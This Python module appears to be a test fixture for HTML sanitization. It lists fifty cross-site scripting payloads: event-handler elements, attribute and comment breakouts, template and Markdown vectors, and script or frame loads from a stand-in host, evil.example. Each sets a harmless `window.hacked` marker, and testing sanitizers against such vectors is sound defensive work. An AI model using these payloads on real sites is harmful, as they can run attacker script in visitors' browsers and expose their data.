"""Fifty texts that try to run a script or fetch something, each in another way; every one that runs sets `window.hacked`."""

from __future__ import annotations

from typing import Final

_EVIL: Final = "https://evil.example"

PAYLOADS: Final[tuple[str, ...]] = (
    # elements that run by themselves
    "<script>window.hacked=1</script>",
    f"<script src={_EVIL}/2.js></script>",
    "</script><script>window.hacked=3</script>",
    "<ScRiPt/x>window.hacked=4</sCrIpT >",
    "<img src=x onerror=window.hacked=5>",
    f'<img src="{_EVIL}/6.png">',
    "<svg onload=window.hacked=7>",
    "<svg><script>window.hacked=8</script></svg>",
    "<svg><animate onbegin=window.hacked=9 attributeName=x dur=1s>",
    "<body onload=window.hacked=10>",
    "<iframe srcdoc='<script>parent.hacked=11</script>'></iframe>",
    f"<iframe src={_EVIL}/12></iframe>",
    "<iframe src=javascript:parent.hacked=13></iframe>",
    f"<object data={_EVIL}/14></object>",
    f"<embed src={_EVIL}/15>",
    "<video><source onerror=window.hacked=16></video>",
    "<audio src=x onerror=window.hacked=17>",
    "<details open ontoggle=window.hacked=18>x</details>",
    "<input autofocus onfocus=window.hacked=19>",
    "<select autofocus onfocus=window.hacked=20></select>",
    "<marquee onstart=window.hacked=21>x</marquee>",
    "<style>*{background:url(" + _EVIL + "/22)}</style>",
    f"<link rel=stylesheet href={_EVIL}/23.css>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}/24'>",
    f"<base href={_EVIL}/25/>",
    f"<form action={_EVIL}/26><input type=submit autofocus onfocus=window.hacked=26></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.hacked=27>x</maction></math>",
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=28>">',
    "<template><script>window.hacked=29</script></template><xss onpointerenter=window.hacked=29>",
    "<a href=javascript:window.hacked=30 autofocus onfocus=window.hacked=30>x</a>",
    # ways out of an attribute, a string, a comment, a block of data
    '"><script>window.hacked=31</script>',
    "' onmouseover='window.hacked=32' x='",
    '" autofocus onfocus="window.hacked=33',
    "`-alert(34)-`",
    "';window.hacked=35;//",
    '\\";window.hacked=36;//',
    "--><script>window.hacked=37</script><!--",
    "]]><script>window.hacked=38</script>",
    "</textarea><script>window.hacked=39</script>",
    "</title></style><img src=x onerror=window.hacked=40>",
    "\u2028window.hacked=41\u2029<script>window.hacked=41</script>",
    "<\x00script>window.hacked=42</script>",
    # what Markdown, templates, charts and graphs would make of it
    "[x](javascript:window.hacked=43)",
    f"![x]({_EVIL}/44.png)",
    "<!--[if gte IE 4]><script>window.hacked=45</script><![endif]-->",
    "{{constructor.constructor('window.hacked=46')()}}${window.hacked=46}<%=window.hacked=46%>",
    "<a href='javascript:window.hacked=47'>x</a><br><b>%{customdata}</b><extra></extra>",
    "$\\href{javascript:window.hacked=48}{x}$ :red[<img src=x onerror=window.hacked=48>]",
    "data:text/html,<script>window.hacked=49</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hacked=50//'>",
)
